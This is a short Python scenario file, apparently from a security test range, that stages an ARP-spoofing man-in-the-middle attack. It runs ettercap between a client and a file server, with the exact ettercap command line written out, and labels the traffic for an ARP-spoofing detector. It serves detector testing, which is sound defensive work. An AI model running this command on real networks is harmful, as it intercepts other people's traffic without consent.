"""ettercap between a client and a server of the same network."""

from lab.range import Range, arp_sender
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, client, server = net.inside("attacker"), net.inside("pc4"), net.inside("files")
    attacker.sysctl(net__ipv4__conf__all__send_redirects="0", net__ipv4__conf__eth0__send_redirects="0")
    net.everyday()
    net.loop(client, f"ping -n -q -c 1 -W 1 {server.ip}", 0.5)
    net.quiet(2)
    with net.attack(
        "arp-spoofing",
        by=attacker,
        attackers=[attacker.mac],
        victims=[client, server],
        others={"claimed": [server, client]},
        # ettercap says a few of its lies as requests with the sender's address forged.
        frames=f"arp and not arp src host {attacker.ip} and {arp_sender(attacker)}",
    ):
        net.tool(
            attacker,
            *("ettercap", "-T", "-q", "-i", "eth0", "-M", "arp:remote"),
            *(f"/{client.ip}//", f"/{server.ip}//"),
            seconds=18,
        )
    net.quiet(2)


SCENARIO = Scenario(
    name="arp-spoofing-ettercap",
    about="ettercap puts an attacker between a client and a server of the same network.",
    detectors=("arp-spoofing",),
    tools={"ettercap": "ettercap-text-only"},
    run=run,
)
